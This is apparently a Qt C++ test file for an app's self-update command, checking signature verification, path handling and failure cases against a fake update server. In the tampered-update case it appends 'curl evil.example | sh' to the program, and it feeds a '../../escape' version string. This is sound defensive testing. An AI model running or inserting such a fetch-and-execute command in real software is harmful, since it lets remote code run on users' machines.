// "--update" run by the real program from an installed bundle, against a fake
// feed and download site, with bundles signed by the test key.
#include "support/BundleKit.h"
#include "support/TestEnv.h"

#include "update/Bundle.h"
#include "diagnostics/CommandLine.h"
#include "fakes/FakeHttpService.h"
#include "keys/TestKeys.h"
#include "core/Log.h"

#include <QDir>
#include <QDirIterator>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSysInfo>
#include <QTemporaryDir>

namespace {

const QString kApp = QStringLiteral("Ombry Voice.app");
const QString kArchivePath = QStringLiteral("/releases/ombry.tar.gz");
const QString kFound = QStringLiteral("mise à jour 1.3.0 trouvée, installation…\n");

enum class Feed { SameBuild, Down, NotConfigured, Garbage, Signed, Tampered, EscapingVersion, LooseProgram };

QJsonObject release(const QString &version, qint64 build)
{
    return {{QStringLiteral("version"), version},
            {QStringLiteral("build"), build},
            {QStringLiteral("notes"), QJsonArray{QStringLiteral("Dictée plus rapide")}},
            {QStringLiteral("page"), QStringLiteral("https://ombry.example/notes")},
            {QStringLiteral("downloads"),
             QJsonObject{{QSysInfo::currentCpuArchitecture(), QString(QStringLiteral("https://cdn.example") + kArchivePath)}}}};
}

QStringList everything(const QString &folder)
{
    QStringList names;
    QDirIterator it(folder, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext())
        names.append(QDir(folder).relativeFilePath(it.next()));
    names.sort();
    return names;
}

} // namespace

Q_DECLARE_METATYPE(Feed)

class TestUpdateSwitch : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void switchIsInTheTable()
    {
        const auto match = CommandLine::find({QStringLiteral("ombry-voice"), QStringLiteral("--translate"),
                                              QStringLiteral("bonjour"), QStringLiteral("--update")});
        QVERIFY(match);
        QCOMPARE(QString::fromLatin1(match->which->name), QStringLiteral("--update"));
        QVERIFY(!match->which->gui());
    }

    void update_data()
    {
        QTest::addColumn<Feed>("feed");
        QTest::addColumn<QString>("output");
        QTest::addColumn<qint64>("buildAfter");
        QTest::newRow("same build") << Feed::SameBuild << QStringLiteral("déjà à jour\n") << qint64(12);
        QTest::newRow("feed down") << Feed::Down << QStringLiteral("erreur: Le service est injoignable\n") << qint64(12);
        QTest::newRow("no feed configured")
            << Feed::NotConfigured << QStringLiteral("erreur: Aucun flux de mises à jour n'est configuré (OMBRY_UPDATES_URL).\n")
            << qint64(12);
        QTest::newRow("feed answers an error page")
            << Feed::Garbage << QStringLiteral("erreur: Réponse illisible du flux de mises à jour.\n") << qint64(12);
        QTest::newRow("newer, signed") << Feed::Signed << kFound + QStringLiteral("\n") << qint64(13);
        QTest::newRow("newer, tampered")
            << Feed::Tampered << kFound + QStringLiteral("La signature de la nouvelle version n'est pas valide.\n") << qint64(12);
        QTest::newRow("version naming a path") << Feed::EscapingVersion
                                               << QStringLiteral("mise à jour ../../escape trouvée, installation…\n\n")
                                               << qint64(13);
        QTest::newRow("program not in a bundle")
            << Feed::LooseProgram
            << kFound
                + QStringLiteral("Cette copie d'Ombry Voice ne vient pas d'un paquet de publication : elle ne peut pas "
                                 "se mettre à jour elle-même.\n")
            << qint64(12);
    }

    void update()
    {
        QFETCH(Feed, feed);
        QFETCH(QString, output);
        QFETCH(qint64, buildAfter);

        QTemporaryDir root;
        const QString bundle = root.path() + QStringLiteral("/apps/") + kApp;
        const QString program = bundle + QStringLiteral("/ombry-voice");
        QVERIFY(BundleKit::make(bundle, Bundle::kIdentifier, QStringLiteral("1.2.0"), QStringLiteral("12"), {}));
        QVERIFY(QFile::copy(QStringLiteral(OMBRY_TESTKEY_BINARY), program));
        QVERIFY(QFile::setPermissions(program, QFile::Permissions::fromInt(0x7755)));

        // The new release: its program records when it starts.
        QTemporaryDir build;
        const QString fresh = build.path() + QLatin1Char('/') + kApp;
        QVERIFY(BundleKit::make(fresh, Bundle::kIdentifier, QStringLiteral("1.3.0"), QStringLiteral("13"),
                                {{QStringLiteral("ombry-voice"), {BundleKit::markerProgram(), true}}}));
        Bundle::sign(fresh, TestKeys::secretKey());
        QList<BundleKit::Member> members = BundleKit::membersOf(fresh, kApp);
        if (feed == Feed::Tampered) {
            for (BundleKit::Member &member : members) {
                if (member.name.endsWith(QStringLiteral("/ombry-voice")))
                    member.content.append("curl evil.example | sh\n");
            }
        }

        FakeHttpService site;
        QVERIFY(site.start());
        const QString version = feed == Feed::EscapingVersion ? QStringLiteral("../../escape") : QStringLiteral("1.3.0");
        if (feed == Feed::Garbage)
            site.on("GET", QStringLiteral("/api/updates"), ScriptedReply::text("<html>Maintenance</html>"));
        else
            site.on("GET", QStringLiteral("/api/updates"),
                    ScriptedReply::json(release(version, feed == Feed::SameBuild ? 12 : 13)));
        ScriptedReply archive = ScriptedReply::text(BundleKit::craft(members));
        archive.contentType = "application/gzip";
        site.on("GET", kArchivePath, archive);
        site.on("GET", kArchivePath + QStringLiteral(".sig"),
                ScriptedReply::text(BundleKit::signatureOf(archive.body, TestKeys::secretKey())));

        const QString mark = root.path() + QStringLiteral("/mark");
        const QString pidFile = root.path() + QStringLiteral("/old.pid");
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.remove(QStringLiteral("DISPLAY"));
        env.insert(QStringLiteral("QT_QPA_PLATFORM"), QStringLiteral("offscreen"));
        env.insert(QStringLiteral("OMBRY_TEST_MARK"), mark);
        env.insert(QStringLiteral("OMBRY_TEST_PIDFILE"), pidFile);
        if (feed == Feed::Down)
            env.insert(QStringLiteral("OMBRY_UPDATES_URL"), QStringLiteral("http://127.0.0.1:9"));
        else if (feed != Feed::NotConfigured)
            env.insert(QStringLiteral("OMBRY_UPDATES_URL"), site.url());

        const auto before = BundleKit::snapshot(bundle);
        const QString cache = qEnvironmentVariable("XDG_CACHE_HOME") + QStringLiteral("/Ombry Voice");
        const QStringList cacheBefore = everything(cache);
        Log::waitUntilWritten();
        const qsizetype logBefore = TestEnv::readFile(Log::path()).size();

        QProcess process;
        process.setProcessEnvironment(env);
        process.setWorkingDirectory(root.path());
        process.start(feed == Feed::LooseProgram ? QStringLiteral(OMBRY_TESTKEY_BINARY) : program,
                      {QStringLiteral("--update")});
        QVERIFY(process.waitForStarted(5000));
        // Before the fake (served by this event loop) can answer anything.
        QVERIFY(TestEnv::writeFile(pidFile, QByteArray::number(process.processId())));
        QVERIFY(TestEnv::waitFor([&] { return process.state() == QProcess::NotRunning; }, 30000));
        QCOMPARE(process.exitStatus(), QProcess::NormalExit);
        QCOMPARE(process.exitCode(), 0);
        QCOMPARE(QString::fromUtf8(process.readAllStandardOutput()), output);

        QCOMPARE(Bundle::readInfo(bundle)->build, buildAfter);
        const QString logged = QString::fromUtf8(TestEnv::readFile(Log::path()).mid(logBefore));
        QCOMPARE(everything(cache), cacheBefore); // the work folder is gone
        QVERIFY(everything(root.path()).filter(QStringLiteral("escape")).isEmpty());
        if (buildAfter == 13) {
            QVERIFY2(logged.contains(QStringLiteral("mise à jour installée : ") + version + QLatin1Char('\n')), qPrintable(logged));
            QCOMPARE(Bundle::verify(bundle, TestKeys::publicKey()).version, QStringLiteral("1.3.0"));
            // The new program started, and only once the old process was gone.
            QVERIFY(TestEnv::waitFor([&] { return TestEnv::readFile(mark).endsWith('\n'); }, 10000));
            QCOMPARE(TestEnv::readFile(mark), QByteArray("après\n"));
        } else {
            QCOMPARE(BundleKit::snapshot(bundle), before);
            QVERIFY(!logged.contains(QStringLiteral("mise à jour installée")));
            QTest::qWait(300);
            QVERIFY(!QFileInfo::exists(mark));
        }
        if (feed == Feed::SameBuild || feed == Feed::Down || feed == Feed::NotConfigured || feed == Feed::Garbage)
            QCOMPARE(site.count(kArchivePath), 0);
    }
};

OMBRY_TEST_MAIN(TestUpdateSwitch)
#include "tst_update_switch.moc"
